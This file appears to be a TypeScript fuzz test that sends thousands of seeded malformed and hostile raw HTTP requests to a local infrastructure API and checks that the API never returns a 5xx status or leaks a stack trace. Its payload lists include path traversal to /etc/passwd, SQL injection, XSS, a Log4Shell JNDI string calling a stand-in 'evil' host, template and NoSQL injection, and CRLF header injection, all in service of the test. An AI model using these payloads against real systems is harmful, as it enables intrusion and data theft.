// A generated run of hostile requests (long, binary, Unicode, traversal, injection, odd methods,
// odd headers and bodies) sent as raw HTTP over sockets, so nothing is cleaned up by a client
// library first. The seed is fixed, so a failure can be replayed; the server must answer every
// request with a non-5xx status and still be answering afterwards.
import net from 'node:net';
import { startServer, type RunningServer } from './helpers/server';

const REQUESTS = 2400;
const CONCURRENCY = 24;
let server: RunningServer;
let port: number;

beforeAll(async () => {
  server = await startServer();
  port = Number(new URL(server.base).port);
});
afterAll(() => server?.stop());

/** mulberry32: a small seeded PRNG. */
function prng(seed: number) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(20261121);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
const int = (n: number) => Math.floor(rnd() * n);
const bytes = (n: number) => Buffer.from(Array.from({ length: n }, () => int(256)));
const pct = (b: Buffer) => [...b].map((x) => `%${x.toString(16).padStart(2, '0').toUpperCase()}`).join('');

const PATHS = [
  '/api/infrastructure',
  '/api/infrastructure.csv',
  '/api/infrastructure.geojson',
  '/api/infrastructure/search',
  '/api/infrastructure/search/',
  '/api/metrics',
  '/api/openapi.json',
  '/api/docs',
  '/healthz',
  '/',
  '/api',
];
const NASTY = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%5c%2e%2e%5cwindows%5cwin.ini',
  '....//....//',
  "' OR '1'='1'--",
  '1; DROP TABLE items;--',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '%n%s%x%p',
  '{"$gt":""}',
  '__proto__',
  'constructor.prototype',
  '\u202Eevil\u202C',
  '\u200B\u200B\u200B',
  'e\u0301\u0301\u0301\u0301',
  '🏝️🌊💧🚌',
  'Ｐｕｍｐ　Ｓｔａｔｉｏｎ',
  '水处理站',
  'Stesen Rawatan',
  '\uFEFF\uFFFE\uFFFF',
  'A'.repeat(5000),
  '水'.repeat(1500),
];
const PCT_NASTY = ['%00', '%0d%0aSet-Cookie:x=1', '%ED%A0%80', '%C0%AF', '%E0%A4%A', '%FF%FE', '%', '%%', '%zz', '%F0%9F%8F'];
const PARAMS = ['q', 'lang', 'type', 'status', 'bbox', 'x', '__proto__', 'constructor[prototype][x]', 'type[]', 'q[$ne]', ''];
const VALUES = ['en', 'zh', 'ms', 'water,drainage', 'operational', '103.58,1.32,103.61,1.35', '1,2,3', 'NaN,NaN,NaN,NaN', '-0,-0,-0,-0', '1e308,1,2,3', ''];
const METHODS = ['GET', 'GET', 'GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'MKCOL', 'SEARCH', 'get', 'G3T', 'FOO', 'GET /x'];
const HEADERS = [
  () => `Accept: ${pick(['*/*', 'text/csv', 'application/geo+json', 'image/png', ';;;', 'text/*;q=abc', 'a/b'.repeat(500)])}`,
  () => `Accept-Language: ${pick(['zh-CN,zh;q=0.9', 'ms', '*', 'xx;q=2', ';q=', 'en;q=0.5,'.repeat(300), '\u00ff\u00fe'])}`,
  () => `Accept-Encoding: ${pick(['gzip', 'br', 'deflate', 'br;q=0, gzip;q=0', 'identity;q=0', '*', 'x'.repeat(2000)])}`,
  () => `If-None-Match: ${pick(['*', 'W/"x"', '"', ',,,,', 'W/'.repeat(1000)])}`,
  () => `Origin: ${pick(['https://evil.example', 'null', 'file://', '*'])}`,
  () => `Content-Type: ${pick(['application/json', 'text/plain', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', '\u00e9'])}`,
  () => `X-Forwarded-For: ${pick(['1.1.1.1', '::1', '999.999.999.999', 'a'.repeat(1000)])}`,
  () => `Range: bytes=${pick(['0-1', '-1', '5-2', 'x'])}`,
  () => `Cookie: ${'a=b; '.repeat(int(200))}`,
  () => `X-Huge: ${'h'.repeat(pick([100, 8000, 20000]))}`,
];

function randomText(): string {
  switch (int(5)) {
    case 0:
      return encodeURIComponent(pick(NASTY));
    case 1:
      return pick(PCT_NASTY) + encodeURIComponent(pick(NASTY).slice(0, 20));
    case 2:
      return pct(bytes(1 + int(60)));
    case 3:
      return pick(NASTY).replace(/[ \u0000-\u001f]/g, '');
    default:
      return encodeURIComponent(
        String.fromCodePoint(...Array.from({ length: 1 + int(30) }, () => pick([int(0x80), 0x300 + int(0x70), 0x4e00 + int(0x5000), 0x1f300 + int(0x300), 0xe000 + int(0x1000)]))),
      );
  }
}

function randomTarget(): string {
  let target = pick(PATHS);
  const kind = int(6);
  if (kind === 0) target = `/api/infrastructure/search/${randomText()}`;
  else if (kind === 1) target = `${target}/${randomText()}`;
  else if (kind === 2) target = `/${randomText()}`;
  if (int(2) === 0) {
    const n = 1 + int(4);
    const parts = Array.from({ length: n }, () => `${pick(PARAMS)}=${int(2) ? encodeURIComponent(pick(VALUES)) : randomText()}`);
    target += `?${parts.join(pick(['&', '&', ';', '&&']))}`;
  }
  if (int(20) === 0) target = pick(['*', 'http://evil.example/api/metrics', '//api/metrics', '/api/metrics#frag', '/api/metrics?' + 'a=1&'.repeat(3000)]);
  return target;
}

function randomRequest(): Buffer {
  const method = pick(METHODS);
  const lines = [`${method} ${randomTarget()} ${pick(['HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0', 'HTTP/9.9', ''])}`.trimEnd(), `Host: 127.0.0.1:${port}`, 'Connection: close'];
  for (let i = int(4); i > 0; i--) lines.push(pick(HEADERS)());
  let body = Buffer.alloc(0);
  if (int(3) === 0) {
    body = int(2) ? bytes(int(3000)) : Buffer.from(pick(['{"a":', '{"__proto__":{"x":1}}', 'a=1&b=2', '\u0000\u0001', 'x'.repeat(20000)]));
    lines.push(int(8) === 0 ? 'Transfer-Encoding: chunked' : `Content-Length: ${body.length}`);
  }
  if (int(30) === 0) lines.push(`X-Raw: ${bytes(20).toString('latin1')}`);
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), body]);
}

interface Outcome {
  status: number | undefined;
  head: string;
  body: string;
}

function send(request: Buffer): Promise<Outcome> {
  const isHead = request.subarray(0, 5).toString('latin1') === 'HEAD ';
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      socket.destroy();
      const text = Buffer.concat(chunks).toString('latin1');
      // Only the first response counts (trailing garbage may earn a second 400 on the same socket).
      const split = text.indexOf('\r\n\r\n');
      const head = split < 0 ? text : text.slice(0, split);
      const length = /\r\ncontent-length: *(\d+)/i.exec(head);
      const rest = split < 0 ? '' : text.slice(split + 4);
      const match = /^HTTP\/1\.[01] (\d{3})/.exec(text);
      const noBody = isHead || match?.[1] === '304' || match?.[1] === '204';
      const body = noBody ? '' : length ? rest.slice(0, Number(length[1])) : rest;
      resolve({ status: match ? Number(match[1]) : undefined, head, body });
    };
    socket.setTimeout(15_000, finish);
    socket.on('data', (c) => chunks.push(c));
    socket.on('end', finish);
    socket.on('close', finish);
    socket.on('error', finish);
    // No half-close: Node's HTTP server drops a pending response when the client ends its side
    // first (httpAllowHalfOpen is off), which browsers and HTTP clients never do. Every request
    // says Connection: close, so the server ends the socket once it has answered.
    socket.write(request);
  });
}

it(`answers ${REQUESTS} generated hostile requests without a 5xx, and keeps answering`, async () => {
  const requests = Array.from({ length: REQUESTS }, randomRequest);
  const outcomes: Outcome[] = new Array(REQUESTS);
  let next = 0;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < REQUESTS) {
        const i = next++;
        outcomes[i] = await send(requests[i]!);
      }
    }),
  );

  const serverErrors = outcomes.map((o, i) => ({ ...o, request: requests[i]!.toString('latin1').slice(0, 200) })).filter((o) => o.status !== undefined && o.status >= 500);
  expect(serverErrors).toEqual([]);

  // Every request gets an HTTP answer (the server may close only after answering).
  const unanswered = outcomes.map((o, i) => ({ o, request: requests[i]!.toString('latin1').slice(0, 120) })).filter(({ o }) => o.status === undefined);
  expect(unanswered.map((u) => u.request)).toEqual([]);

  // The mix really is hostile: mostly refusals, some successes, several kinds of error.
  const statuses = outcomes.map((o) => o.status!);
  const count = (pred: (s: number) => boolean) => statuses.filter(pred).length;
  expect(count((s) => s >= 400 && s < 500)).toBeGreaterThan(REQUESTS / 3);
  expect(count((s) => s < 400)).toBeGreaterThan(50);
  expect(new Set(statuses.filter((s) => s >= 400)).size).toBeGreaterThanOrEqual(4);

  // Errors are the API's JSON shape and never leak a stack trace or a file path.
  for (const o of outcomes) {
    if (o.status! >= 400 && /content-type: application\/json/i.test(o.head) && o.body) {
      expect(`${o.head}\n\n${o.body}`).toMatch(/\n\n\{"error":\{"code":"[a-z_]+","message":"/);
    }
    expect(o.body).not.toMatch(/node_modules|\.ts:\d+:\d+|\n\s+at /);
  }

  expect(server.child.exitCode).toBeNull();
  const health = await fetch(`${server.base}/healthz`);
  expect(health.status).toBe(200);
  const list = await fetch(`${server.base}/api/infrastructure?lang=zh`);
  expect(list.status).toBe(200);
  expect(((await list.json()) as unknown[]).length).toBeGreaterThanOrEqual(30);
});
